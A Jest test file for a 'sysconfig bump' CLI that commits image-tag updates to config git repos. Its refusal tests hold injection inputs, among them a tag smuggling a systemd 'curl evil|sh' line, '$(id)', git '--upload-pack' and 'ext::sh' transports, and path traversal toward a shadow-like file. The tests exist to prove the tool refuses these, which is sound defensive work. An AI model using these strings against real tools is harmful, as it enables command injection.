// sysconfig bump through the built CLI against real git (bare remotes in temp dirs): every rule of DESIGN §4.
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { existsSync } from "node:fs";
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { runCli } from "./helpers/cli.js";
import { bareClone, fileAt, git, initExample, refsOf, tagAt } from "./helpers/config-repos.js";
import { tempDir } from "./helpers/tmp.js";

let root: string;
let work: string;
let cleanup: () => Promise<void>;
let counter = 0;

/** A fresh bare remote of the example (branches develop → docker, staging → fleet, master → kubernetes). */
function freshRemote(): string {
  counter += 1;
  return bareClone(work, path.join(root, `remote-${counter}.git`));
}

/**
 * Runs bump with a private TMPDIR, so a test can check that the temp clone was removed. Node's compile
 * cache (cli/main.ts; its default is TMPDIR/node-compile-cache) is a cache kept on purpose, not a leftover.
 */
async function bump(args: string[], env: NodeJS.ProcessEnv = {}, cwd?: string) {
  const tmp = path.join(root, `tmp-${++counter}`);
  await mkdir(tmp);
  const result = await runCli(["bump", ...args], { env: { TMPDIR: tmp, ...env }, cwd });
  return { ...result, leftovers: (await readdir(tmp)).filter((name) => name !== "node-compile-cache") };
}

beforeAll(async () => {
  ({ dir: root, cleanup } = await tempDir("sysconfig-bump-rules-"));
  work = await initExample(root);
});
afterAll(() => cleanup());

describe("bump: a normal bump", () => {
  it("commits the tag and the re-rendered file to the tag's branch with message, trailers and bot identity", async () => {
    const remote = freshRemote();
    const before = refsOf(remote);
    const result = await bump(["hello", "58-develop", "--repo", remote]);
    expect(result.stderr).toBe("cloning " + remote + " (branch develop)\n");
    expect(result.code).toBe(0);
    expect(result.leftovers).toEqual([]);
    expect(tagAt(remote, "develop", "hello")).toBe("58-develop");
    expect(fileAt(remote, "develop", "rendered/hello.yaml")).toContain(
      'image: "127.0.0.1:5000/acme/hello:58-develop"',
    );
    const log = git(["log", "-1", "--format=%an <%ae>|%cn <%ce>|%B", "develop"], remote);
    expect(log).toBe(
      "sysconfig-bot <sysconfig-bot@localhost>|sysconfig-bot <sysconfig-bot@localhost>|" +
        "Updating hello tag to '58-develop'\n\nSysconfig-Service: hello\nSysconfig-Tag: 58-develop\n\n",
    );
    // Exactly the tag line and the rendered file change; comments and layout of sysconfig.yaml survive.
    const stat = git(["diff", "--numstat", "develop~1", "develop"], remote);
    expect(stat).toBe("2\t2\trendered/hello.yaml\n1\t1\tsysconfig.yaml\n");
    expect(fileAt(remote, "develop", "sysconfig.yaml")).toContain(
      "# A small web service: answers HTTP on port 8080.",
    );
    // Other branches are untouched; stdout shows the diff and the commit.
    const after = refsOf(remote).split("\n");
    for (const line of before.split("\n").filter((l) => !l.startsWith("refs/heads/develop "))) {
      expect(after).toContain(line);
    }
    expect(result.stdout).toContain("-    tag: 1-develop\n+    tag: 58-develop\n");
    expect(result.stdout).toMatch(/hello 1-develop → 58-develop on develop: commit [0-9a-f]{12} pushed/);
  });

  it("takes author and committer from the environment", async () => {
    const remote = freshRemote();
    const result = await bump(["worker", "7-develop", "--repo", remote], {
      GIT_AUTHOR_NAME: "Jenkins",
      GIT_AUTHOR_EMAIL: "jenkins@ci.example",
      GIT_COMMITTER_NAME: "CI Bot",
      GIT_COMMITTER_EMAIL: "bot@ci.example",
    });
    expect(result.code).toBe(0);
    expect(git(["log", "-1", "--format=%an <%ae>|%cn <%ce>", "develop"], remote)).toBe(
      "Jenkins <jenkins@ci.example>|CI Bot <bot@ci.example>\n",
    );
  });

  it("renders for the target kind of the branch and bumps another branch with --branch", async () => {
    const remote = freshRemote();
    const result = await bump(["worker", "60-develop", "--repo", remote, "--branch", "staging"]);
    expect(result.code).toBe(0);
    expect(tagAt(remote, "staging", "worker")).toBe("60-develop");
    expect(fileAt(remote, "staging", "rendered/worker@.service")).toContain(
      "127.0.0.1:5000/acme/worker:60-develop",
    );
    expect(tagAt(remote, "develop", "worker")).toBe("1-develop");
  });

  it("prints one JSON object with --output json and logs only to stderr", async () => {
    const remote = freshRemote();
    const result = await bump(["hello", "12-develop", "--repo", remote, "--output", "json"]);
    expect(result.code).toBe(0);
    const json = JSON.parse(result.stdout) as Record<string, unknown>;
    expect(json).toEqual({
      service: "hello",
      branch: "develop",
      oldTag: "1-develop",
      newTag: "12-develop",
      commit: git(["rev-parse", "develop"], remote).trim(),
      pushed: true,
      attempts: 1,
      changed: true,
      files: ["sysconfig.yaml", "rendered/hello.yaml"],
      dryRun: false,
    });
  });

  it("accepts a file:// URL (shallow clone) and cleans up its temp clone", async () => {
    const remote = freshRemote();
    const result = await bump(["hello", "3-develop", "--repo", `file://${remote}`]);
    expect(result.code).toBe(0);
    expect(result.leftovers).toEqual([]);
    expect(tagAt(remote, "develop", "hello")).toBe("3-develop");
  });
});

describe("bump: refused input touches nothing", () => {
  const badTags = [
    "58-develop\nExecStartPre=/bin/sh -c 'curl evil|sh'",
    "58-feature/x",
    "58-develop now",
    "58-{{service.name}}",
    "58-$(id)",
    "develop",
    "-58-develop",
    `1-${"a".repeat(127)}`,
  ];
  it.each(badTags)("refuses the tag %j with exit 3", async (tag) => {
    const remote = freshRemote();
    const before = refsOf(remote);
    const result = await bump(["--repo", remote, "--", "hello", tag]);
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/bump failed: .*Docker's tag grammar .*Nothing was changed\./s);
    expect(result.stdout).toBe("");
    expect(refsOf(remote)).toBe(before);
  });

  it.each(["../x", "-x", "--upload-pack=touch", "Hello", "a/b"])(
    "refuses the service name %j with exit 3",
    async (service) => {
      const remote = freshRemote();
      const before = refsOf(remote);
      const result = await bump(["--repo", remote, "--", service, "58-develop"]);
      expect(result.code).toBe(3);
      expect(result.stderr).toContain("not a service name");
      expect(refsOf(remote)).toBe(before);
    },
  );

  it("refuses an unknown service and lists the known ones", async () => {
    const remote = freshRemote();
    const before = refsOf(remote);
    const result = await bump(["web", "58-develop", "--repo", remote]);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain("Known services: hello, legacy-api, worker");
    expect(refsOf(remote)).toBe(before);
    expect(result.leftovers).toEqual([]);
  });

  it("refuses a tag for a branch the config repo lacks, naming its branches and --branch", async () => {
    const remote = freshRemote();
    const before = refsOf(remote);
    const result = await bump(["hello", "58-feature-x", "--repo", remote]);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain("has no branch 'feature-x' (it has develop, master, staging)");
    expect(result.stderr).toContain("--branch");
    expect(refsOf(remote)).toBe(before);
  });

  it("refuses a branch that exists but is not an environment, listing the environments", async () => {
    const remote = freshRemote();
    git(["branch", "scratch", "develop"], remote);
    const before = refsOf(remote);
    const result = await bump(["hello", "58-scratch", "--repo", remote]);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain(
      "not an environment of acme (sysconfig.yaml lists develop, staging, master)",
    );
    expect(refsOf(remote)).toBe(before);
  });

  it("refuses --branch values that could pass as options", async () => {
    const remote = freshRemote();
    const before = refsOf(remote);
    const result = await bump(["hello", "58-develop", "--repo", remote, "--branch=--upload-pack=x"]);
    expect(result.code).toBe(3);
    expect(refsOf(remote)).toBe(before);
  });

  it("refuses --repo values that are options or command-running transports", async () => {
    const marker = path.join(root, "pwned");
    for (const repo of [`--upload-pack=touch ${marker}`, `ext::sh -c touch% ${marker}`, "fd::3"]) {
      const result = await bump(["hello", "58-develop", "--repo", repo]);
      expect(result.code).toBe(3);
    }
    expect(existsSync(marker)).toBe(false);
  });
});

describe("bump: monotonic build numbers", () => {
  it("refuses a lower build number with exit 4 naming the rule and --force; --force rolls back", async () => {
    const remote = freshRemote();
    expect((await bump(["hello", "58-develop", "--repo", remote])).code).toBe(0);
    const before = refsOf(remote);
    const refused = await bump(["hello", "57-develop", "--repo", remote]);
    expect(refused.code).toBe(4);
    expect(refused.stderr).toMatch(/refused by the monotonic rule: .*'58-develop'.*--force/s);
    expect(refsOf(remote)).toBe(before);
    const rollback = await bump(["hello", "57-develop", "--repo", remote, "--force"]);
    expect(rollback.code).toBe(0);
    expect(tagAt(remote, "develop", "hello")).toBe("57-develop");
  });

  it("treats the same tag again as a no-op: exit 0, no commit", async () => {
    const remote = freshRemote();
    expect((await bump(["hello", "58-develop", "--repo", remote])).code).toBe(0);
    const before = refsOf(remote);
    const again = await bump(["hello", "58-develop", "--repo", remote, "--output", "json"]);
    expect(again.code).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({
      changed: false,
      commit: null,
      pushed: false,
      files: [],
    });
    expect(refsOf(remote)).toBe(before);
  });
});

describe("bump: --dry-run", () => {
  it("prints the rendered diff and commits nothing", async () => {
    const remote = freshRemote();
    const before = refsOf(remote);
    const result = await bump(["hello", "59-develop", "--repo", remote, "--dry-run"]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("--- a/rendered/hello.yaml\n+++ b/rendered/hello.yaml\n");
    expect(result.stdout).toContain('+image: "127.0.0.1:5000/acme/hello:59-develop"');
    expect(result.stdout).toContain("nothing committed");
    expect(refsOf(remote)).toBe(before);
    const json = await bump(["hello", "59-develop", "--repo", remote, "--dry-run", "--output", "json"]);
    expect(JSON.parse(json.stdout)).toMatchObject({
      dryRun: true,
      changed: true,
      commit: null,
      pushed: false,
    });
    expect(refsOf(remote)).toBe(before);
  });
});

describe("bump: --template from the service's repo", () => {
  it("copies the template into the config repo, references it and renders with it", async () => {
    const remote = freshRemote();
    const serviceRepo = path.join(root, "hello-service");
    await mkdir(path.join(serviceRepo, "deploy"), { recursive: true });
    await writeFile(
      path.join(serviceRepo, "deploy/hello.yaml.hbs"),
      "# hello's own spec\nservice: {{json service.name}}\nimage: {{json service.imageRef}}\nrestart: always\n",
    );
    const result = await runCli(
      ["bump", "hello", "61-develop", "--repo", remote, "--template", "deploy/hello.yaml.hbs"],
      { cwd: serviceRepo },
    );
    expect(result.code).toBe(0);
    expect(fileAt(remote, "develop", "templates/hello.docker.hbs")).toContain("# hello's own spec");
    expect(fileAt(remote, "develop", "sysconfig.yaml")).toMatch(
      /templates:\n(\s+\w+: \S+\n)*\s+docker: templates\/hello\.docker\.hbs/,
    );
    expect(fileAt(remote, "develop", "rendered/hello.yaml")).toBe(
      '# hello\'s own spec\nservice: "hello"\nimage: "127.0.0.1:5000/acme/hello:61-develop"\nrestart: always\n',
    );
    // The config repo stays valid and current after the bump.
    const check = path.join(root, "template-check");
    git(["clone", "--quiet", "--branch", "develop", "--", remote, check]);
    expect((await runCli(["validate", "--repo", check])).code).toBe(0);
  });

  it("refuses a --template outside the service's repo (absolute or ../) and never quotes the file", async () => {
    const remote = freshRemote();
    const before = refsOf(remote);
    const serviceRepo = path.join(root, "contained-service");
    await mkdir(serviceRepo, { recursive: true });
    git(["init", "--quiet"], serviceRepo);
    // Shaped like /etc/shadow: a parse error would have quoted its lines ("Unrecognized keys: root:*:…").
    const outside = path.join(root, "shadow-like");
    await writeFile(outside, "root:*:20228:0:99999:7:::\ndaemon:*:20228:0:99999:7:::\n");
    for (const template of [outside, path.relative(serviceRepo, outside)]) {
      const result = await bump(
        ["hello", "63-develop", "--repo", remote, "--template", template],
        {},
        serviceRepo,
      );
      expect({ template, code: result.code }).toEqual({ template, code: 3 });
      expect(result.stderr).toContain(`--template ${outside} refused`);
      expect(result.stderr).toContain("service's repo");
      expect(result.stderr).not.toContain("root:*");
      expect(result.stderr).not.toContain("20228");
    }
    expect(refsOf(remote)).toBe(before);
  });

  it("refuses a template with a missing variable (exit 3, names it) and commits nothing", async () => {
    const remote = freshRemote();
    const before = refsOf(remote);
    const serviceRepo = path.join(root, "broken-service");
    await mkdir(serviceRepo, { recursive: true });
    await writeFile(
      path.join(serviceRepo, "broken.yaml.hbs"),
      "service: {{service.name}}\nimage: {{service.imgRef}}\n",
    );
    const result = await bump(
      ["hello", "62-develop", "--repo", remote, "--template", "broken.yaml.hbs"],
      {},
      serviceRepo,
    );
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/:2: template variable 'imgRef' is not defined/);
    expect(result.stderr).toContain("Nothing was committed");
    expect(refsOf(remote)).toBe(before);
    expect(result.leftovers).toEqual([]);
  });
});

describe("bump: credentials", () => {
  it.each([
    "https://ci-user:s3cr3tT0ken@127.0.0.1:1/acme/sysconfig.git",
    "https://s3cr3tT0ken@127.0.0.1:1/acme/sysconfig.git",
  ])("never prints the token of %s, even with --verbose", async (url) => {
    const result = await bump(["hello", "58-develop", "--repo", url, "--max-attempts", "1", "--verbose"], {
      SYSCONFIG_VERBOSE: "1",
    });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("127.0.0.1:1/acme/sysconfig.git");
    expect(result.stderr).toContain("***@");
    expect(`${result.stdout}${result.stderr}`).not.toContain("s3cr3tT0ken");
  });
});

describe("bump: a local working checkout", () => {
  it("commits in the checkout and pushes to its upstream", async () => {
    const remote = freshRemote();
    const checkout = path.join(root, "checkout-upstream");
    git(["clone", "--quiet", "--branch", "develop", "--", remote, checkout]);
    const result = await runCli(["bump", "hello", "70-develop", "--output", "json"], { cwd: checkout });
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ pushed: true, attempts: 1 });
    expect(git(["rev-parse", "HEAD"], checkout)).toBe(git(["rev-parse", "develop"], remote));
    expect(tagAt(remote, "develop", "hello")).toBe("70-develop");
  });

  it("commits locally when the branch has no upstream, and refuses a dirty or wrong-branch checkout", async () => {
    const checkout = path.join(root, "checkout-local");
    git(["clone", "--quiet", "--branch", "develop", "--", work, checkout]);
    git(["branch", "--unset-upstream"], checkout);
    const ok = await runCli(["bump", "hello", "71-develop", "--repo", checkout, "--output", "json"]);
    expect(ok.code).toBe(0);
    expect(JSON.parse(ok.stdout)).toMatchObject({ pushed: false, changed: true });
    expect(git(["log", "-1", "--format=%s"], checkout)).toBe("Updating hello tag to '71-develop'\n");

    const wrongBranch = await runCli(["bump", "hello", "72-staging", "--repo", checkout]);
    expect(wrongBranch.code).toBe(3);
    expect(wrongBranch.stderr).toContain("git switch staging");

    const file = path.join(checkout, "sysconfig.yaml");
    await writeFile(file, `${await readFile(file, "utf8")}# local edit\n`);
    const head = git(["rev-parse", "HEAD"], checkout);
    const dirty = await runCli(["bump", "hello", "73-develop", "--repo", checkout]);
    expect(dirty.code).toBe(3);
    expect(dirty.stderr).toContain("uncommitted changes");
    expect(git(["rev-parse", "HEAD"], checkout)).toBe(head);
  });
});
